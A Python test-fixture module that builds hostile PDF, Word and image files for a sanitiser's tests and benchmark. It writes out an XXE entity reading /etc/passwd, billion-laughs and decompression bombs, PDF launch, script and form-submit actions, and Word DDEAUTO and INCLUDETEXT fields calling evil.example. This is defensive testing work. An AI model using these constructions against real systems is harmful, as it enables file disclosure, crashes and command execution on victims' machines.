"""Files made to harm or to tell: each with its name, its kind and what may become of it.

`bench/hostile_files.py` puts all of them through the door of attachments, `tests/files/test_hostile.py` some.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from docx import Document
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)
from reportlab.pdfgen.canvas import Canvas

from tests.files.builders import (
    AUTHOR,
    SECRET,
    exif,
    picture,
    script,
    swollen_picture,
    telling_docx,
    telling_pdf,
)

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


@dataclass(frozen=True, slots=True)
class Hostile:
    """`name` is what the file is called, `does` what is wrong with it."""

    does: str
    name: str
    make: Callable[[], bytes]


def text_pdf(pages: int = 1, words: str = "Words that stay.") -> bytes:
    sink = io.BytesIO()
    canvas = Canvas(sink)
    for _page in range(pages):
        canvas.drawString(70, 700, words)
        canvas.showPage()
    canvas.save()
    return sink.getvalue()


def altered_pdf(change: Callable[[PdfWriter], None]) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf())))
    change(writer)
    sink = io.BytesIO()
    writer.write(sink)
    return sink.getvalue()


def _dictionary(**values: object) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{name}"): value for name, value in values.items()})  # type: ignore[misc]


def _stream(data: bytes) -> DecodedStreamObject:
    stream = DecodedStreamObject()
    stream.set_data(data)
    return stream


def _xfa(writer: PdfWriter) -> None:
    form = _stream(f"<xdp>{SECRET}</xdp>".encode())
    fields = _dictionary(XFA=writer._add_object(form), Fields=ArrayObject())
    writer.root_object[NameObject("/AcroForm")] = fields


def _launch(writer: PdfWriter) -> None:
    action = _dictionary(S=NameObject("/Launch"), F=TextStringObject(SECRET))
    writer.root_object[NameObject("/OpenAction")] = action


def _named_script(writer: PdfWriter) -> None:
    named = ArrayObject([TextStringObject("a"), writer._add_object(script())])
    scripts = _dictionary(JavaScript=_dictionary(Names=named))
    writer.root_object[NameObject("/Names")] = scripts


def _submit(writer: PdfWriter) -> None:
    action = _dictionary(S=NameObject("/SubmitForm"), F=TextStringObject(f"https://{SECRET}.example"))
    link = _dictionary(Type=NameObject("/Annot"), Subtype=NameObject("/Link"), A=action)
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])


def _private_data(writer: PdfWriter) -> None:
    told = _dictionary(Illustrator=_dictionary(Private=TextStringObject(SECRET)))
    writer.pages[0][NameObject("/PieceInfo")] = told


def _thumbnail(writer: PdfWriter) -> None:
    writer.pages[0][NameObject("/Thumb")] = writer._add_object(_stream(SECRET.encode()))


def _rich_media(writer: PdfWriter) -> None:
    told = _dictionary(Subtype=NameObject("/RichMedia"), RichMediaContent=_stream(SECRET.encode()))
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(told)])


def _deep(writer: PdfWriter) -> None:
    inner: DictionaryObject = _dictionary(End=NumberObject(1))
    for _step in range(5_000):
        inner = _dictionary(In=writer._add_object(inner))
    writer.root_object[NameObject("/Outlines")] = inner


def deep_pdf() -> bytes:
    """Arrays in arrays."""
    body = b"[" * 50_000 + b"]" * 50_000
    return b"%PDF-1.7\n1 0 obj\n" + body + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"


def looping_pdf() -> bytes:
    """Pages that are their own parents."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 999999999>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    )


def _swelling(writer: PdfWriter) -> None:
    """A page of a few kilobytes that unpacks to 400 MB."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"0 0 m\n" * 1_000_000) for _part in range(70)) + packer.flush()
    stream = _stream(packed)
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)


def _many_objects(writer: PdfWriter) -> None:
    """A chain of dictionaries, none deeper than the next."""
    rows = ArrayObject(writer._add_object(_dictionary(A=NumberObject(n))) for n in range(120_000))
    writer.pages[0][NameObject("/Resources")] = _dictionary(Properties=_dictionary(All=rows))


def _endless_page(writer: PdfWriter) -> None:
    """Two megabytes of drawing, most of it nothing."""
    writer.pages[0][NameObject("/Contents")] = writer._add_object(_stream(b"q Q BT ET " * 200_000))


def broken_pdf() -> bytes:
    whole = text_pdf()
    return whole[: len(whole) // 2]


def with_parts(
    content: bytes, parts: dict[str, bytes], *, kept: Callable[[str], bool] = lambda name: True
) -> bytes:
    """An archive with other parts in place of its own, or besides."""
    sink = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as made,
    ):
        for name in source.namelist():
            if kept(name) and name not in parts:
                made.writestr(name, source.read(name))
        for name, part in parts.items():
            made.writestr(name, part)
    return sink.getvalue()


def plain_docx(words: str = "Words that stay.") -> bytes:
    document = Document()
    document.add_paragraph(words)
    sink = io.BytesIO()
    document.save(sink)
    return sink.getvalue()


def docx_with(inside: str) -> bytes:
    """With this XML at the end of its body."""
    content = plain_docx()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        body = archive.read("word/document.xml")
    return with_parts(
        content, {"word/document.xml": body.replace(b"<w:sectPr", inside.encode() + b"<w:sectPr", 1)}
    )


def docx_with_entity() -> bytes:
    content = plain_docx()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        body = archive.read("word/document.xml").split(b"?>", 1)[1]
    declared = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    return with_parts(content, {"word/document.xml": declared + body})


def docx_of_laughs() -> bytes:
    """Each entity is ten of the one before."""
    content = plain_docx()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        body = archive.read("word/document.xml").split(b"?>", 1)[1]
    rows = b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    declared = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">' + rows + b"]>"
    return with_parts(content, {"word/document.xml": declared + body})


def zip_bomb() -> bytes:
    return with_parts(plain_docx(), {"word/media/bomb.png": bytes(300 * 1024 * 1024)})


def many_entries() -> bytes:
    return with_parts(plain_docx(), {f"word/media/{n}.txt": b"x" for n in range(6_000)})


def deep_docx() -> bytes:
    depth = 20_000
    return docx_with("<w:p><w:r>" + "<w:ins>" * depth + "</w:ins>" * depth + "</w:r></w:p>")


def long_docx() -> bytes:
    return docx_with("<w:p><w:r><w:t>word</w:t></w:r></w:p>" * 120_000)


def docx_with_template() -> bytes:
    content = plain_docx()
    told = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'attachedTemplate" Target="file:///C:/{SECRET}/a.dotm" TargetMode="External"/></Relationships>'
    )
    return with_parts(content, {"word/_rels/settings.xml.rels": told.encode()})


def docx_with_custom_facts() -> bytes:
    told = f"<Properties><property name='Author'>{AUTHOR}</property></Properties>".encode()
    return with_parts(
        plain_docx(), {"docProps/custom.xml": told, "customXml/item1.xml": f"<a>{SECRET}</a>".encode()}
    )


def docx_with_thumbnail() -> bytes:
    return with_parts(plain_docx(), {"docProps/thumbnail.jpeg": picture("JPEG")})


def docx_with_telling_picture() -> bytes:
    document = Document()
    document.add_paragraph("Words that stay.")
    document.add_picture(io.BytesIO(picture("JPEG")))
    sink = io.BytesIO()
    document.save(sink)
    return sink.getvalue()


def hidden_words() -> bytes:
    return docx_with(
        f"<w:p><w:del w:author='{AUTHOR}'><w:r><w:delText>{SECRET}</w:delText></w:r></w:del></w:p>"
    )


def field(instruction: str, shown: str) -> str:
    """As Word writes one: marks around its instruction and what it shows."""
    marks = [f'<w:r><w:fldChar w:fldCharType="{each}"/></w:r>' for each in ("begin", "separate", "end")]
    code = f"<w:r><w:instrText>{instruction}</w:instrText></w:r><w:r><w:t>{SECRET}</w:t></w:r>"
    return f"{marks[0]}{code}{marks[1]}<w:r><w:t>{shown}</w:t></w:r>{marks[2]}"


FIELDS = (
    f'INCLUDEPICTURE "http://evil.example/{SECRET}.png" \\d',
    f'INCLUDETEXT "http://evil.example/{SECRET}"',
    f"DDEAUTO c:\\cmd {SECRET}",
    f"LINK Excel.Sheet c:\\{SECRET}",
    f"AUTHOR {SECRET}",
)


def docx_with_fields() -> bytes:
    """Also one inside the instruction of another, and one that is never closed."""
    inside = "".join(field(each, "Shown.") for each in FIELDS)
    simple = f'<w:fldSimple w:instr="{FIELDS[2]}"><w:r><w:t>Shown.</w:t></w:r></w:fldSimple>'
    nested = f"{FIELDS[0]}</w:instrText></w:r>{field('PAGE', SECRET)}<w:r><w:instrText>"
    unclosed = (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{FIELDS[3]}</w:instrText></w:r>'
    )
    return docx_with(f"<w:p>{inside}{simple}{field('PAGE', '7')}{field(nested, 'Shown.')}{unclosed}</w:p>")


def hidden_run(properties: str, *, words: str = SECRET) -> str:
    return f"<w:r><w:rPr>{properties}</w:rPr><w:t>{words}</w:t></w:r>"


def docx_with_hidden_words() -> bytes:
    """By themselves, by a style and the one that it is based on, in a hidden row, and between elements."""
    style = '<w:style w:type="character" w:styleId="{}"><w:name w:val="{}"/>{}</w:style>'
    styles = style.format("Gone", "gone", "<w:rPr><w:vanish/></w:rPr>")
    styles += style.format("Also", "also", '<w:basedOn w:val="Gone"/>')
    row = f"<w:tr><w:trPr><w:hidden/></w:trPr><w:tc><w:p><w:r><w:t>{SECRET}</w:t></w:r></w:p></w:tc></w:tr>"
    table = f"<w:tbl><w:tblPr/><w:tblGrid/>{row}<w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>"
    runs = [
        *map(hidden_run, ("<w:vanish/>", '<w:rStyle w:val="Gone"/>', '<w:rStyle w:val="Also"/>')),
        hidden_run('<w:vanish w:val="0"/>', words="Shown."),
        hidden_run("<w:webHidden/>", words="Shown."),
    ]
    control = (
        f'<w:sdt><w:sdtPr><w:tag w:val="{SECRET}"/></w:sdtPr><w:sdtContent>{runs[3]}</w:sdtContent></w:sdt>'
    )
    bookmark = f'<w:bookmarkStart w:id="5" w:name="{SECRET}"/><w:bookmarkEnd w:id="5"/>'
    body = f"<w:p>{SECRET}{''.join(runs)}{control}{bookmark}</w:p>{table}"
    content = docx_with(body)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        known = archive.read("word/styles.xml")
    return with_parts(
        content, {"word/styles.xml": known.replace(b"</w:styles>", styles.encode() + b"</w:styles>")}
    )


def docx_with_unread_parts() -> bytes:
    """A header that no section names, a picture that is none, and another program's part."""
    content = plain_docx()
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rows = "".join(
        f'<Relationship Id="rId80{n}" Type="{kinds}/{kind}" Target="{name}"/>'
        for n, (kind, name) in enumerate((("header", "header9.xml"), ("theme", "x.bin"), ("image", "y.png")))
    )
    header = f'<w:hdr xmlns:w="{WORD}"><w:p><w:r><w:t>{SECRET}</w:t></w:r></w:p></w:hdr>'
    types = (
        '<Default Extension="bin" ContentType="application/octet-stream"/>'
        '<Default Extension="png" ContentType="image/png"/>'
        '<Override PartName="/word/header9.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/></Types>'
    )
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        relations = archive.read("word/_rels/document.xml.rels")
        known = archive.read("[Content_Types].xml")
    return with_parts(
        content,
        {
            "word/_rels/document.xml.rels": relations.replace(
                b"</Relationships>", rows.encode() + b"</Relationships>"
            ),
            "[Content_Types].xml": known.replace(b"</Types>", types.encode()),
            "word/header9.xml": header.encode(),
            "word/x.bin": SECRET.encode(),
            "word/y.png": SECRET.encode(),
        },
    )


def jpeg_with_thumbnail() -> bytes:
    """A small picture inside the EXIF that shows what was cut away."""
    small = picture("JPEG") + SECRET.encode()
    segment = b"\xff\xe1" + struct.pack(">H", len(small) + 8) + b"Exif\x00\x00" + small
    whole = picture("JPEG")
    return whole[:2] + segment + whole[2:]


def jpeg_with_xmp() -> bytes:
    told = b"http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta>" + SECRET.encode() + b"</x:xmpmeta>"
    whole = picture("JPEG")
    return whole[:2] + b"\xff\xe1" + struct.pack(">H", len(told) + 2) + told + whole[2:]


def jpeg_with_iptc() -> bytes:
    told = b"Photoshop 3.0\x008BIM\x04\x04\x00\x00" + AUTHOR.encode()
    whole = picture("JPEG")
    return whole[:2] + b"\xff\xed" + struct.pack(">H", len(told) + 2) + told + whole[2:]


def jpeg_and_zip() -> bytes:
    """A picture that is an archive too."""
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w") as archive:
        archive.writestr("secret.txt", SECRET)
    return picture("JPEG") + sink.getvalue()


def jpeg_and_page() -> bytes:
    return picture("JPEG") + f"<html><script>{SECRET}</script></html>".encode()


def pdf_and_zip() -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w") as archive:
        archive.writestr("secret.txt", SECRET)
    return text_pdf() + sink.getvalue()


def png_with_text() -> bytes:
    told = PngInfo()
    told.add_text("Author", AUTHOR)
    told.add_text("Comment", SECRET, zip=True)
    sink = io.BytesIO()
    Image.new("RGB", (20, 20), "red").save(sink, "PNG", pnginfo=told, exif=exif())
    return sink.getvalue()


def png_with_tail() -> bytes:
    return picture("PNG") + SECRET.encode()


def png_text_bomb() -> bytes:
    """A text of 200 MB in a few kilobytes."""
    packed = zlib.compress(b"a" * 200_000_000, 9)
    body = b"zTXt" + b"Comment\x00\x00" + packed
    chunk = struct.pack(">I", len(body) - 4) + body + struct.pack(">I", zlib.crc32(body))
    whole = picture("PNG")
    return whole[:33] + chunk + whole[33:]


def large_photo() -> bytes:
    sink = io.BytesIO()
    Image.effect_noise((9_000, 7_000), 60).convert("RGB").resize((8_000, 6_000)).save(
        sink, "JPEG", quality=40
    )
    return sink.getvalue()


def progressive_photo() -> bytes:
    sink = io.BytesIO()
    Image.new("RGB", (12_000, 9_000), "red").save(sink, "JPEG", progressive=True)
    return sink.getvalue()


def cut_photo() -> bytes:
    noise = Image.frombytes("RGB", (64, 64), random.Random(1).randbytes(64 * 64 * 3))
    sink = io.BytesIO()
    noise.save(sink, "JPEG", exif=exif())
    return sink.getvalue()[: sink.tell() // 2]


def page_file() -> bytes:
    return f"<!doctype html><html><script>{SECRET}</script></html>".encode()


def drawing() -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg"><script>{SECRET}</script></svg>'.encode()


HOSTILE: tuple[Hostile, ...] = (
    Hostile("author, XMP, script, attachment, comment, form", "all.pdf", telling_pdf),
    Hostile("a form of XFA", "xfa.pdf", lambda: altered_pdf(_xfa)),
    Hostile("starts a program", "launch.pdf", lambda: altered_pdf(_launch)),
    Hostile("a script by name", "script.pdf", lambda: altered_pdf(_named_script)),
    Hostile("sends a form away", "submit.pdf", lambda: altered_pdf(_submit)),
    Hostile("private data of a program", "piece.pdf", lambda: altered_pdf(_private_data)),
    Hostile("a thumbnail of a page", "thumb.pdf", lambda: altered_pdf(_thumbnail)),
    Hostile("a film with a program", "media.pdf", lambda: altered_pdf(_rich_media)),
    Hostile(
        "a carried file",
        "carried.pdf",
        lambda: altered_pdf(lambda w: w.add_attachment("a", SECRET.encode()) and None),
    ),
    Hostile(
        "a script when it opens",
        "open.pdf",
        lambda: altered_pdf(lambda w: w.root_object.__setitem__(NameObject("/OpenAction"), script())),
    ),
    Hostile("5,000 dictionaries in each other", "nested.pdf", lambda: altered_pdf(_deep)),
    Hostile("50,000 arrays in each other", "deep.pdf", deep_pdf),
    Hostile("pages that are their own parents", "loop.pdf", looping_pdf),
    Hostile("a stream that unpacks to 400 MB", "swelling.pdf", lambda: altered_pdf(_swelling)),
    Hostile("120,000 objects in a row", "objects.pdf", lambda: altered_pdf(_many_objects)),
    Hostile("400,000 orders to draw", "orders.pdf", lambda: altered_pdf(_endless_page)),
    Hostile("ends in the middle", "broken.pdf", broken_pdf),
    Hostile("a password", "locked.pdf", lambda: telling_pdf(password="secret")),
    Hostile("an archive behind it", "archive.pdf", pdf_and_zip),
    Hostile("a web page that is called a PDF", "page.pdf", page_file),
    Hostile("a program that is called a PDF", "program.pdf", lambda: b"MZ\x90\x00" * 100),
    Hostile("author, comment, tracked change, macro, carried file", "all.docx", telling_docx),
    Hostile("deleted words", "deleted.docx", hidden_words),
    Hostile("fields that fetch, link and start", "fields.docx", docx_with_fields),
    Hostile("hidden words", "vanish.docx", docx_with_hidden_words),
    Hostile("parts that nothing shows", "unread.docx", docx_with_unread_parts),
    Hostile("facts of one's own and custom XML", "custom.docx", docx_with_custom_facts),
    Hostile("a thumbnail", "thumbnail.docx", docx_with_thumbnail),
    Hostile("a picture that tells its place", "picture.docx", docx_with_telling_picture),
    Hostile("a template on somebody's disk", "template.docx", docx_with_template),
    Hostile("words from outside itself", "entity.docx", docx_with_entity),
    Hostile("entities of entities", "laughs.docx", docx_of_laughs),
    Hostile("a part that unpacks to 300 MB", "bomb.docx", zip_bomb),
    Hostile("6,000 parts", "parts.docx", many_entries),
    Hostile("20,000 elements in each other", "nested.docx", deep_docx),
    Hostile("120,000 paragraphs", "long.docx", long_docx),
    Hostile(
        "an archive that is no Word file",
        "archive.docx",
        lambda: with_parts(plain_docx(), {}, kept=lambda n: n.startswith("docProps")),
    ),
    Hostile("place, author and camera", "exif.jpg", lambda: picture("JPEG")),
    Hostile("a second picture behind the first, with its place", "two.jpg", lambda: picture("MPO", frames=2)),
    Hostile("a thumbnail of what was cut away", "thumbnail.jpg", jpeg_with_thumbnail),
    Hostile("XMP", "xmp.jpg", jpeg_with_xmp),
    Hostile("author and city for newspapers", "iptc.jpg", jpeg_with_iptc),
    Hostile("an archive behind it", "archive.jpg", jpeg_and_zip),
    Hostile("a web page behind it", "page.jpg", jpeg_and_page),
    Hostile("ends in the middle", "cut.jpg", cut_photo),
    Hostile("48 million points", "large.jpg", large_photo),
    Hostile("108 million points in passes", "passes.jpg", progressive_photo),
    Hostile("a drawing with a script", "drawing.jpg", drawing),
    Hostile("author, packed comment and place", "text.png", png_with_text),
    Hostile("words behind its end", "tail.png", png_with_tail),
    Hostile("400 million points in a few bytes", "swollen.png", swollen_picture),
    Hostile("a comment that unpacks to 200 MB", "comment.png", png_text_bomb),
    Hostile("a JPEG that is called a PNG", "other.png", lambda: picture("JPEG")),
)


def named(*names: str) -> Iterator[Hostile]:
    return (each for each in HOSTILE if each.name in names)
